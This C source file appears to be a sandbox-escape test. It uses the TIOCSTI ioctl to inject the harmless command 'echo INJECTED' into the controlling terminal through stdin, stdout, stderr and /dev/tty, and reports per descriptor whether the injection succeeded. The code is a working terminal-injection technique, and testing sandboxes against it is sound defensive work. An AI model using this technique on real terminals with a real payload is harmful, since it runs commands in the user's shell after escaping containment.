/* Attack: push a command into the input queue of the terminal the sandbox was started from,
 * so that the user's shell runs it after the sandbox exits (TIOCSTI), through stdin, stdout,
 * stderr and /dev/tty. Prints one line per fd. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void inject(const char *name, int fd) {
    const char *cmd = "echo INJECTED\n";
    int ok = 1, e = 0;
    for (const char *p = cmd; *p; p++) {
        if (ioctl(fd, TIOCSTI, p) != 0) { ok = 0; e = errno; break; }
    }
    if (ok) printf("tiocsti %s: ok\n", name);
    else printf("tiocsti %s: errno %d\n", name, e);
    fflush(stdout);
}

int main(void) {
    inject("stdin", 0);
    inject("stdout", 1);
    inject("stderr", 2);
    int t = open("/dev/tty", O_RDWR);
    if (t < 0) printf("open /dev/tty: errno %d\n", errno);
    else inject("/dev/tty", t);
    return 0;
}
